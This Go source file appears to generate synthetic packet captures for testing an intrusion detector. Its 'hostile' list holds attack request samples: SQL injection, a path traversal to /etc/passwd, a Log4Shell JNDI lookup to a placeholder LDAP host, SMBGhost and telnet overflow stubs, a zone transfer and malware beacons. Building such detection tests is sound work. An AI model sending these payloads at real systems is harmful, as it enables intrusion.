package main

import "strings"

// said is one kind of conversation, in the words of its two ends.
type said struct {
	name     string
	class    string // that its attack is counted as; "": nobody's
	port     uint16
	outbound bool // begun from inside
	udp      bool
	request  string
	answer   string // "": the server resets
}

const agent = "Host: www.example.com\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\nAccept: */*\r\n"

// hostile are the attacks, each recognised by a rule of our own.
var hostile = []said{
	{name: "SQL injection", class: "web-attack", port: 80, request: "GET /item?id=1%20UNION%20SELECT%201,2,3 HTTP/1.1\r\n" + agent + "\r\n"},
	{name: "SQL injection at a log-in", class: "web-attack", port: 8080, request: "GET /login?user=admin'%20or%20'1'='1 HTTP/1.1\r\n" + agent + "\r\n"},
	{name: "password file", class: "web-attack", port: 80, request: "GET /cgi-bin/../../../../etc/passwd HTTP/1.1\r\n" + agent + "\r\n"},
	{name: "Log4Shell", class: "web-attack", port: 8080, request: "GET /api/v1/login HTTP/1.1\r\n" + agent + "X-Api-Version: ${jndi:ldap://198.51.100.7:1389/a}\r\n\r\n"},
	{name: "telnet before its log-in", class: "exploit", port: 23, request: strings.Repeat("\x16A", 64) + "\r\n"},
	{name: "SMBGhost", class: "exploit", port: 445, request: "\x00\x00\x00\x40\xfcSMB\xff\xff\xff\xff\x01\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("A", 44)},
	{name: "zone transfer", class: "enumeration", port: 53, request: "\x00\x1d\x12\x34\x00\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\xfc\x00\x01"},
	{name: "bot's command", class: "malware", port: 80, request: "GET /cmd.php?id=7 HTTP/1.1\r\nHost: cc.example.net\r\nUser-Agent: Mozilla/4.0 (compatible; Synapse)\r\n\r\n"},
	{name: "RAT calls home", class: "c2", port: 7888, outbound: true, request: "ping|STRRAT|8A7B6C5D|admin|Microsoft Windows 10 Pro|64-bit|Windows Defender|1.4|US:United States|Not Installed|0 secs|\r\n"},
}

// ordinary is what honest clients do.
var ordinary = []said{
	{name: "page", port: 80, request: "GET /index.html HTTP/1.1\r\n" + agent + "\r\n",
		answer: "HTTP/1.1 200 OK\r\nServer: nginx\r\nContent-Type: text/html\r\nContent-Length: 120\r\nConnection: close\r\n\r\n" + strings.Repeat("<p>Well met.</p>", 8)},
	{name: "picture", port: 8080, request: "GET /static/logo.png HTTP/1.1\r\n" + agent + "Referer: http://www.example.com/\r\n\r\n",
		answer: "HTTP/1.1 304 Not Modified\r\nServer: nginx\r\nConnection: close\r\n\r\n"},
	{name: "name", port: 53, udp: true, request: "\x4a\x01\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01",
		answer: "\x4a\x01\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00\x03www\x07example\x03com\x00\x00\x01\x00\x01\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04\x0a\x01\x00\x0a"},
}

// talk is a conversation's packets as templates: only addresses, the client's port, numbers and sums are filled in.
type talk struct {
	outbound bool
	packets  []template
}

// template is one frame with zeros where a conversation's own values go, and the sums over the rest.
type template struct {
	bytes        []byte
	v6, udp      bool
	toClient     bool
	ipSum, l4Sum uint32
	seq, ack     uint32 // besides the first numbers of the two ends
	acks         bool
}

// TCP's flags.
const (
	fin, syn, rst, psh, ack = 1, 2, 4, 8, 16
)

func newTalk(s said, v6 bool) *talk {
	t := &talk{outbound: s.outbound}
	req, ans := uint32(len(s.request)), uint32(len(s.answer))
	add := func(toClient bool, flags byte, seq, acked uint32, payload string) {
		t.packets = append(t.packets, newTemplate(&s, v6, toClient, flags, seq, acked, payload))
	}
	if s.udp {
		add(false, 0, 0, 0, s.request)
		add(true, 0, 0, 0, s.answer)
		return t
	}
	add(false, syn, 0, 0, "")
	add(true, syn|ack, 0, 1, "")
	add(false, ack, 1, 1, "")
	add(false, psh|ack, 1, 1, s.request)
	if s.answer == "" {
		add(true, rst|ack, 1, 1+req, "")
		return t
	}
	add(true, psh|ack, 1, 1+req, s.answer)
	add(true, fin|ack, 1+ans, 1+req, "")
	add(false, fin|ack, 1+req, 2+ans, "")
	add(true, ack, 2+ans, 2+req, "")
	return t
}

const ethernet = 14

func newTemplate(s *said, v6, toClient bool, flags byte, seq, acked uint32, payload string) template {
	t := template{v6: v6, udp: s.udp, toClient: toClient, seq: seq, ack: acked, acks: flags&ack != 0}
	b := []byte{2, 0, 0, 0, 0, 1, 2, 0, 0, 0, 0, 2, 8, 0}
	head, proto := 20, byte(6)
	if s.udp {
		head, proto = 8, 17
	}
	size := uint16(head + len(payload))
	if v6 {
		b[12], b[13] = 0x86, 0xdd
		b = append(b, 0x60, 0, 0, 0, byte(size>>8), byte(size), proto, 64)
		b = append(b, make([]byte, 32)...)
	} else {
		b = append(b, 0x45, 0, byte((20+size)>>8), byte(20+size), 0, 0, 0x40, 0, 64, proto)
		b = append(b, make([]byte, 10)...)
		t.ipSum = sum(0, b[ethernet:])
	}
	l4 := len(b)
	b = append(b, make([]byte, head)...)
	at := l4 + 2 // the server's port
	if toClient {
		at = l4
	}
	be.PutUint16(b[at:], s.port)
	if s.udp {
		be.PutUint16(b[l4+4:], size)
	} else {
		b[l4+12], b[l4+13] = 5<<4, flags
		be.PutUint16(b[l4+14:], 64240)
	}
	b = append(b, payload...)
	t.l4Sum = sum(uint32(proto)+uint32(size), b[l4:])
	t.bytes = b
	return t
}

// sum adds 16-bit words.
func sum(s uint32, b []byte) uint32 {
	for ; len(b) > 1; b = b[2:] {
		s += uint32(be.Uint16(b))
	}
	if len(b) == 1 {
		s += uint32(b[0]) << 8
	}
	return s
}

func fold(s uint32) uint16 {
	s = s>>16 + s&0xffff
	s = s>>16 + s&0xffff
	return ^uint16(s)
}

func words(v uint32) uint32 { return v>>16 + v&0xffff }

// append adds the frame of a conversation.
func (t *template) append(dst []byte, p *playing) []byte {
	b := append(dst, t.bytes...)
	src, to, seq, acked := &p.src, &p.dst, p.seqC, p.seqS
	if t.toClient {
		src, to, seq, acked = to, src, acked, seq
	}
	l4, sums := ethernet+20, uint32(0)
	if t.v6 {
		l4 = ethernet + 40
		copy(b[ethernet+8:], src[:])
		copy(b[ethernet+24:], to[:])
		sums = sum(0, b[ethernet+8:l4])
	} else {
		be.PutUint16(b[ethernet+4:], p.id)
		copy(b[ethernet+12:], src[:4])
		copy(b[ethernet+16:], to[:4])
		sums = sum(0, b[ethernet+12:l4])
		be.PutUint16(b[ethernet+10:], fold(t.ipSum+sums+uint32(p.id)))
	}
	if t.toClient {
		be.PutUint16(b[l4+2:], p.port)
	} else {
		be.PutUint16(b[l4:], p.port)
	}
	sums += t.l4Sum + uint32(p.port)
	if t.udp {
		be.PutUint16(b[l4+6:], fold(sums))
		return b
	}
	seq += t.seq
	be.PutUint32(b[l4+4:], seq)
	sums += words(seq)
	if t.acks {
		acked += t.ack
		be.PutUint32(b[l4+8:], acked)
		sums += words(acked)
	}
	be.PutUint16(b[l4+16:], fold(sums))
	return b
}
